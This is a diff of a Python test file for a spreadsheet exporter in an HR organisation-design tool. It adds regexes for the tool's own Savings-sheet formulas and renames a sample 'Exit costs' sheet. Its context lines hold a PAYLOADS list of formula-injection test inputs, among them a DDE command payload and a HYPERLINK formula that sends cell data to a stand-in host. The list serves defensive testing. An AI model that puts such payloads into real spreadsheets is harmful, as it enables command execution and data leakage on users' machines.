@@ -21,6 +21,14 @@ from orgdesigner.model.errors import FileProblem
 # Each is what an attacker types into a field that reaches a cell: DDE, a link out, arithmetic.
 PAYLOADS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil/?x="&A1)', "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 OUR_FORMULAS = r"=SUM\([C-G]2:[C-G]\d+\)|=E\d+\+F\d+|=COUNTIF\((\$D\$2:\$D\$\d+|Establishment\[Layer\]),[GJ]\d+\)"
+SAVINGS_FORMULAS = (  # the Savings profile sheet's own: dates, part-year effects, totals (no user text)
+    r"=DATE\(\d+,\d+,\d+\)",
+    r"=\$E\d+\*MAX\(0,MIN\(1,\(DATE\(\d+,4,1\)-MAX\(\$D\d+,DATE\(\d+,4,1\)\)\)/\(DATE\(\d+,4,1\)-DATE\(\d+,4,1\)\)\)\)",
+    r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)\*\$B\$3",
+    r'=SUMIF\(\$D\$\d+:\$D\$\d+,"\d{4}/\d{2}",\$E\$\d+:\$E\$\d+\)\*\(1\+\$B\$4\)',
+    r"=[A-Z]+\d+([-+][A-Z]+\d+)?",
+)
+OUR_FORMULAS = "|".join((OUR_FORMULAS, *SAVINGS_FORMULAS))
 
 
 def hostile() -> Document:
@@ -101,21 +109,21 @@ def test_spans_and_layers_have_native_charts(tmp_path: Path) -> None:
 
 
 def test_a_sheet_added_by_another_module_appears_in_its_place(tmp_path: Path) -> None:
-    def exit_costs(book: Book) -> None:
-        sheet = book.table("Exit costs", ["Post ID", "Job Title", "Cost (£)"], {"Cost (£)": MONEY})
+    def training_costs(book: Book) -> None:
+        sheet = book.table("Training costs", ["Post ID", "Job Title", "Cost (£)"], {"Cost (£)": MONEY})
         for post in book.structure:
             sheet.add([post.id, post.title, 1000.0])
         rows = len(book.structure)
-        sheet.close("ExitCosts", totals=["Total", "", Formula(f"=SUM(C2:C{rows + 1})", 1000.0 * rows)])
+        sheet.close("TrainingCosts", totals=["Total", "", Formula(f"=SUM(C2:C{rows + 1})", 1000.0 * rows)])
 
     out = tmp_path / "hr.xlsx"
-    sheets = (*hr_workbook.SHEETS[:2], exit_costs, *hr_workbook.SHEETS[2:])
+    sheets = (*hr_workbook.SHEETS[:2], training_costs, *hr_workbook.SHEETS[2:])
     hr_workbook.export_workbook(hostile(), out, sheets=sheets)
     book = openpyxl.load_workbook(out)
-    assert book.sheetnames[:3] == ["Cover", "Establishment", "Exit costs"]
-    added = book["Exit costs"]
-    assert "ExitCosts" in added.tables and added["C2"].number_format == MONEY
-    assert openpyxl.load_workbook(out, data_only=True)["Exit costs"].cell(added.max_row, 3).value > 0
+    assert book.sheetnames[:3] == ["Cover", "Establishment", "Training costs"]
+    added = book["Training costs"]
+    assert "TrainingCosts" in added.tables and added["C2"].number_format == MONEY
+    assert openpyxl.load_workbook(out, data_only=True)["Training costs"].cell(added.max_row, 3).value > 0
 
 
 def test_a_failed_export_leaves_the_previous_workbook_and_no_temporary_file(tmp_path: Path) -> None:
